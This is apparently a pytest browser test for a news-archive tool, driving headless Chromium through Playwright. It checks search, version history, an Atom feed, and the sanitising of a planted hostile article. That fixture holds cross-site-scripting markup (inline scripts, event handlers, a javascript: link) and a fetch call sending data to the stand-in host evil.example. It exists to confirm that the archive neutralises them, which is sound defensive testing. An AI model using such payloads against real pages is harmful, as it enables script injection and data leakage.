"""The published archive in a real browser: Debian's Chromium driven headless by
Playwright, against `newsarchive serve` on 127.0.0.1 over an archive crawled from the
mirrors, with one article changed between two crawls and one full of hostile markup.
Screenshots are saved in test-output/browser/ for a person to look at."""

from __future__ import annotations

import re
import shutil
import xml.etree.ElementTree as ET

import pytest

from crawler.mirror_server import MirrorServer, bundled_mirrors_dir
from crawler.profile import bundled_profile_paths
from tests.conftest import NCAC_HOST, REPO, SEED_TITLE, run_cli, served_archive

pytestmark = [pytest.mark.e2e, pytest.mark.browser]

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
SCREENSHOTS = REPO / "test-output" / "browser"
CHANGED = "https://en.ncac.gov.cn/copyright/contents/10361/329822.shtml"
HOSTILE = "https://en.ncac.gov.cn/news/regionalupdates/202411/t20241121_59998.html"
HOSTILE_PAGE = """<!DOCTYPE html><html><head><meta charset="utf-8">
<title>Hostile Markup Test Notice--National Copyright Administration of China</title>
<link rel="stylesheet" href="https://evil.example/steal.css">
<script>window.__pwned = "head script";</script></head><body>
<div class="position">You are here: <a href="/">Home</a> &gt; <a href="/news/">News</a> &gt;
<a href="/news/regionalupdates/">Regional Updates</a></div>
<div class="article"><h1>Hostile Markup Test Notice</h1>
<div class="info"><span class="date">2024-11-21</span></div>
<div class="content"><div class="TRS_Editor">
<style>.hide { display: none } body { background: url(https://evil.example/bg.png) }</style>
<p onclick="window.__pwned = 'onclick'">The copyright office published a notice about
hostile markup, which archives must neutralise.</p>
<p class="hide" style="display:none">This paragraph was hidden by CSS and must stay readable.</p>
<img src="https://evil.example/track.gif" onerror="window.__pwned = 'onerror'">
<script>window.__pwned = "body script"; fetch("https://evil.example/leak");</script>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x.swf"></object>
<form action="https://evil.example/post"><input name="q"></form>
<p>Read <a href="javascript:window.__pwned='link'">the rules</a> and
<a href="https://example.org/rules" onmouseover="window.__pwned='hover'">more</a>.</p>
</div></div></div></body></html>"""


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    if CHROMIUM is None:
        pytest.skip("Debian's chromium is not installed (make test installs it)")
    work = tmp_path_factory.mktemp("browser")
    mirrors = work / "mirrors"
    shutil.copytree(bundled_mirrors_dir(), mirrors)
    site = mirrors / NCAC_HOST
    hostile = site / HOSTILE.removeprefix(f"https://{NCAC_HOST}/")
    hostile.parent.mkdir(parents=True)
    hostile.write_text(HOSTILE_PAGE, encoding="utf-8")
    listing = site / "news" / "regionalupdates" / "index.html"
    anchor = '<div class="list">\n  <ul>\n'
    listing.write_text(
        listing.read_text("utf-8").replace(
            anchor, f'{anchor}<li><a href="{HOSTILE}">Hostile Markup Test Notice</a></li>\n', 1
        ),
        encoding="utf-8",
    )
    db = work / "archive.db"
    with MirrorServer(root=mirrors) as mirror:
        first = run_cli("crawl", "--all", "--mirror-url", mirror.url, "--db", str(db))
        assert first.returncode == 0, first.stdout + first.stderr[-2000:]
        changed = site / CHANGED.removeprefix(f"https://{NCAC_HOST}/")
        html = changed.read_text("utf-8")
        title = re.search(r"<h1>(.*?)</h1>", html).group(1)
        changed.write_text(html.replace(title, "Corrected: " + title), encoding="utf-8")
        second = run_cli("crawl", "ncac_en", "--full", "--mirror-url", mirror.url, "--db", str(db))
        assert second.returncode == 0 and "1 updated" in second.stdout
    with served_archive(db) as base:
        yield base


@pytest.fixture(scope="module")
def browser(served):
    from playwright.sync_api import sync_playwright

    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=CHROMIUM,
            args=[
                "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                "--disable-component-update", "--disable-sync", "--no-first-run",
            ],
        )  # fmt: skip
        yield chromium
        chromium.close()


@pytest.fixture
def page(browser):
    context = browser.new_context(viewport={"width": 1200, "height": 900})
    page = context.new_page()
    page.requested = []
    page.on("request", lambda request: page.requested.append(request.url))
    yield page
    context.close()


def only_local(urls):
    return [url for url in urls if not url.startswith(("http://127.0.0.1", "data:", "about:"))]


def test_home_page_lists_every_site(page, served):
    page.goto(served + "/")
    sites = page.locator("tr.newsarchive-site").evaluate_all(
        "rows => rows.map(row => row.dataset.site)"
    )
    assert sorted(sites) == sorted(path.stem for path in bundled_profile_paths())
    page.screenshot(path=str(SCREENSHOTS / "home.png"), full_page=True)
    assert only_local(page.requested) == []


@pytest.mark.parametrize(("query", "expected"), [("Pudong", SEED_TITLE), ("版权", None)])
def test_search_and_open_an_article(page, served, query, expected):
    page.goto(served + "/")
    page.fill(".newsarchive-search input[name=q]", query)
    page.click(".newsarchive-search button")
    page.wait_for_url("**/archive/search?**")
    first = page.locator("table.rows-and-columns td.col-title a").first
    title = first.inner_text()
    if expected:
        assert title == expected
    first.click()
    page.wait_for_url("**/archive/articles/*")
    article = page.locator("article.newsarchive-article")
    assert article.locator("h2").inner_text() == title
    assert article.locator("nav.trail a").count() >= 2
    assert article.locator("time").count() == 1
    assert article.locator(".body p").count() >= 2
    page.screenshot(path=str(SCREENSHOTS / f"article-{len(query)}.png"), full_page=True)
    assert only_local(page.requested) == []


def test_version_history_shows_the_change_between_two_crawls(page, served):
    page.goto(served + "/archive/recently_changed")
    page.locator("td.col-title a").first.click()
    page.wait_for_url("**/archive/articles/*")
    history = page.locator("section.newsarchive-history")
    assert history.locator("h3").inner_text() == "Version history"
    added = history.locator(".add").first.inner_text()
    removed = history.locator(".del").first.inner_text()
    assert added.startswith("+ title: Corrected: ") and removed == "- title: " + added[20:]
    page.screenshot(path=str(SCREENSHOTS / "history.png"), full_page=True)


def test_feed_parses_as_atom_with_the_expected_entries(page, served):
    response = page.request.get(served + "/-/feeds/archive/changed.atom")
    assert response.ok and response.headers["content-type"].startswith("application/atom+xml")
    feed = ET.fromstring(response.body())
    atom = "{http://www.w3.org/2005/Atom}"
    (entry,) = feed.findall(f"{atom}entry")
    assert entry.find(f"{atom}title").text.startswith("Changed: Corrected: ")


def test_hostile_article_runs_no_script_and_stays_local_and_readable(page, served):
    page.goto(served + "/archive/articles.json?_search=hostile&_shape=array&_col=id")
    (row,) = page.evaluate("JSON.parse(document.body.innerText)")
    page.goto(f"{served}/archive/articles/{row['id']}")
    body = page.locator("article.newsarchive-article .body")
    body.locator("p").first.click()
    body.locator("a").last.hover()
    page.wait_for_timeout(300)
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert only_local(page.requested) == [], page.requested
    assert body.locator("script, iframe, object, form, style, img").count() == 0
    hidden = body.get_by_text("This paragraph was hidden by CSS and must stay readable.")
    assert hidden.is_visible()
    assert body.get_by_text("The copyright office published a notice").is_visible()
    assert all(
        href is None or href.startswith("https://")
        for href in body.locator("a").evaluate_all(
            "links => links.map(a => a.getAttribute('href'))"
        )
    )
    page.screenshot(path=str(SCREENSHOTS / "hostile.png"), full_page=True)
